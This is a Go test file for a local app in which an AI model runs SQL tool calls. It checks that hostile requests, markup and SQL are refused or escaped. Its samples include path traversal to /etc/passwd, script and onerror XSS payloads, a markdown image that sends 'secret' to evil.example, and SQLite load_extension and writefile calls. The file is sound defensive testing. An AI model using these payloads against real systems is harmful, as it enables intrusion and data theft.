package main

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"
)

// send sends a request as it is and returns the status and the error's code.
func (p *product) send(t *testing.T, method, path, body string, headers ...string) (status int, code string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, p.url+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	for i := 0; i < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
		if headers[i] == "Host" {
			req.Host = headers[i+1]
		}
	}
	resp, err := p.client.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer func() { _ = resp.Body.Close() }()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	var e struct{ Error struct{ Code string } }
	_ = json.Unmarshal(data, &e) // an answer that is none has no code
	return resp.StatusCode, e.Error.Code
}

// Requests that nobody means well are refused with the right status, and the
// model is never asked.
func TestHostileRequests(t *testing.T) {
	t.Parallel()
	k := serveTalk(t, nil)
	turns := "/api/sessions/" + k.open(t) + "/turns"
	text := func(n int) string { return `{"text":"` + strings.Repeat("x", n) + `"}` }
	for _, tt := range []struct {
		name, body string
		headers    []string
		status     int
	}{
		{"text over 256 KiB", text(256<<10 + 1), nil, 413},
		{"body far over", text(20 << 20), nil, 413},
		{"cut JSON", `{"text":"x`, nil, 400},
		{"no JSON", `text=x`, nil, 400},
		{"no body", ``, nil, 400},
		{"an array", `["x"]`, nil, 400},
		{"null", `null`, nil, 400},
		{"null text", `{"text":null}`, nil, 400},
		{"two values", `{"text":"x"}{"text":"y"}`, nil, 400},
		{"twice", `{"text":"x","text":"y"}`, nil, 400},
		{"another case", `{"Text":"x"}`, nil, 400},
		{"unknown member", `{"text":"x","confirm_destructive":true}`, nil, 400},
		{"deep", `{"text":` + strings.Repeat("[", 100_000), nil, 400},
		{"not UTF-8", "{\"text\":\"\xff\xfe\"}", nil, 400},
		{"NUL", `{"text":"a\u0000b"}`, nil, 400},
		{"a form", `text=x`, []string{"Content-Type", "application/x-www-form-urlencoded"}, 415},
		{"plain text", `{"text":"x"}`, []string{"Content-Type", "text/plain"}, 415},
		{"another charset", `{"text":"x"}`, []string{"Content-Type", "application/json; charset=utf-16"}, 415},
		{"a foreign host", `{"text":"x"}`, []string{"Host", "evil.example"}, 403},
		{"a host that begins like ours", `{"text":"x"}`, []string{"Host", "127.0.0.1.evil.example"}, 403},
		{"another site", `{"text":"x"}`, []string{"Sec-Fetch-Site", "cross-site", "Origin", "https://evil.example"}, 403},
		{"another port", `{"text":"x"}`, []string{"Sec-Fetch-Site", "same-site", "Origin", "http://127.0.0.1:1"}, 403},
		{"an origin alone", `{"text":"x"}`, []string{"Origin", "https://evil.example"}, 403},
		{"no origin", `{"text":"x"}`, []string{"Origin", "null"}, 403},
	} {
		if status, code := k.send(t, "POST", turns, tt.body, tt.headers...); status != tt.status || code == "" {
			t.Errorf("%s: %d %q, want %d", tt.name, status, code, tt.status)
		}
	}
	for _, path := range []string{"/", "/audit", "/api/sessions", "/api/stream", "/healthz"} {
		if status, _ := k.send(t, "GET", path, "", "Host", "evil.example"); status != http.StatusForbidden {
			t.Errorf("%s for a foreign host: %d", path, status)
		}
	}
	for _, path := range []string{"/static/../go.mod", "/static/..%2f..%2fgo.mod", "/static/%2e%2e/%2e%2e/etc/passwd", "/static//etc/passwd", "/storage/default/audit.jsonl"} {
		if status, _ := k.send(t, "GET", path, ""); status != http.StatusNotFound {
			t.Errorf("%s: %d", path, status)
		}
	}
	if n := len(k.model.Requests()); n != 0 {
		t.Errorf("the model was asked %d times", n)
	}
}

// A message of exactly the limit is taken, whatever it takes to write it in JSON.
func TestLargestMessage(t *testing.T) {
	t.Parallel()
	k := serveTalk(t, nil, says("That was long."))
	text := strings.Repeat(`\u00e9`, 128<<10) // two bytes each
	session := k.open(t)
	if status, code := k.send(t, "POST", "/api/sessions/"+session+"/turns", `{"text":"`+text+`"}`); status != http.StatusAccepted {
		t.Fatalf("%d %s", status, code)
	}
	k.waitSettled(t, session)
	if ms := k.model.Requests()[0].Messages; ms[len(ms)-1].Content != strings.Repeat("é", 128<<10) {
		t.Error("the model was sent something else")
	}
}

const (
	script = `<script>window.__pwn=1</script>`
	image  = `![x](https://evil.example/?q=secret)`
)

// What rows and the model say is text wherever it is shown.
func TestMarkupInRowsAndText(t *testing.T) {
	t.Parallel()
	said := "Look: " + image + " " + script + ` <img src=x onerror=alert(1)> [click](javascript:alert(1)) <a href="javascript:x">y</a> <iframe src="//evil.example"></iframe>`
	k := serveTalk(t, nil,
		calls(query("c1", "SELECT '"+script+"' AS \"<b>h</b>\", '"+image+"' AS b"), query("c2", "DELETE FROM staff WHERE note = '"+script+"' OR id = 20")),
		says(said))
	session := k.open(t)
	es := k.ask(t, session, "show me "+script)
	q := es.one(t, "hook_asks_user")
	html := es.mustComplete(t).HTML
	for _, bad := range []string{"<script", "<img", "onerror=", "<iframe", `href="javascript`, "evil.example/?q"} {
		if strings.Contains(strings.ReplaceAll(html, "&lt;", ""), bad) {
			t.Errorf("the answer's HTML has %q: %s", bad, html)
		}
	}
	call := es.all("turn.tool_call")[0]
	pages := []string{
		"/sessions/" + session, "/sessions/" + session + "/transcript", "/sessions/" + session + "/waiting",
		"/sessions/" + session + "/turns/" + call.Turn, "/sessions/" + session + "/calls/" + call.Call + "/result?turn=" + call.Turn,
		"/approvals/" + q.Approval, "/approvals/" + q.Approval + "?part=dialog", "/audit", "/audit/2", "/audit/3", "/sessions", "/recent", "/",
	}
	shown := 0
	for _, path := range pages {
		status, page := k.page(t, path)
		if status != http.StatusOK {
			t.Errorf("%s: %d", path, status)
			continue
		}
		for _, bad := range []string{script, "<b>h</b>", "<img src=x", "onerror=alert(1)>", "<iframe", "src=\"https://evil"} {
			if strings.Contains(page, bad) {
				t.Errorf("%s has %q", path, bad)
			}
		}
		if strings.Contains(page, "&lt;script&gt;window.__pwn") {
			shown++
		}
	}
	if shown < 6 {
		t.Errorf("only %d of the pages show the text at all", shown)
	}
}

// page is a page as a browser gets it.
func (p *product) page(t *testing.T, path string) (status int, html string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, p.url+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := p.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = resp.Body.Close() }()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode == http.StatusOK && !strings.HasPrefix(resp.Header.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Errorf("%s: policy %q", path, resp.Header.Get("Content-Security-Policy"))
	}
	return resp.StatusCode, string(data)
}

// SQL that no person would write is answered clearly.
func TestHostileSQL(t *testing.T) {
	t.Parallel()
	many := "SELECT " + strings.TrimSuffix(strings.Repeat("1,", 10_000), ",")
	for _, tt := range []struct{ name, sql, status, want string }{
		{"1 MB", "SELECT '" + strings.Repeat("x", 1<<20-100) + "'", "denied", ""},
		{"more than 1 MB", "SELECT '" + strings.Repeat("x", 2<<20) + "'", "error", "larger than"},
		{"10,000 columns", many, "denied", ""},
		{"deep", "SELECT " + strings.Repeat("(", 10_000) + "1" + strings.Repeat(")", 10_000), "denied", ""},
		{"a huge cell", "SELECT hex(zeroblob(20000000))", "error", ""},
		{"a huge blob", "SELECT zeroblob(2000000000)", "error", ""},
		{"many statements", strings.Repeat("SELECT 1;", 5_000), "ok", `"results":[`},
		{"NUL", "SELECT 1\x00; DELETE FROM staff", "denied", ""},
		{"control characters", "SELECT\x0b1 AS \x1b[31mred", "denied", ""},
		{"nothing", "  -- nothing\n", "denied", ""},
		{"not SQL", "please delete everything", "denied", ""},
		{"another file", "ATTACH 'other.db' AS o", "denied", ""},
		{"an extension", "SELECT load_extension('x')", "denied", ""},
		{"a file", "SELECT writefile('x', 'y')", "denied", ""},
		{"a pragma", "PRAGMA writable_schema = 1", "denied", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			k := serveTalk(t, nil, calls(query("c1", tt.sql)), says("I see."))
			session := k.open(t)
			es := k.ask(t, session, "run it")
			r := es.one(t, "turn.tool_result")
			if r.Status != tt.status || !strings.Contains(string(r.Result), tt.want) || len(r.Result) < 40 {
				t.Errorf("%s %.300s", r.Status, r.Result)
			}
			t.Logf("%s: %.300s", r.Status, r.Result)
			es.mustComplete(t)
			if n := k.rows(t, "true"); n != 200 {
				t.Errorf("%d rows are left", n)
			}
			k.mustTally(t, session)
		})
	}
}

// Bytes that are no text come as bytes, and what text holds stays in its place.
func TestStrangeValues(t *testing.T) {
	t.Parallel()
	k := serveTalk(t, nil, calls(query("c1", "SELECT CAST(x'fffe41' AS TEXT), x'00ff', 9007199254740993, 9e999, NULL, '', char(27) || '[31m' || char(8238) || char(0) || 'x'")), says("Strange."))
	r := k.ask(t, k.open(t), "show").one(t, "turn.tool_result")
	var got struct{ Rows [][]any }
	if err := json.Unmarshal(r.Result, &got); err != nil {
		t.Fatal(err)
	}
	want := `[{"blob":"//5B"},{"blob":"AP8="},"9007199254740993","Infinity",null,"","\u001b[31m` + "\u202e" + `\u0000x"]`
	if jsonOf(got.Rows[0]) != want {
		t.Errorf("got  %s\nwant %s", jsonOf(got.Rows[0]), want)
	}
}
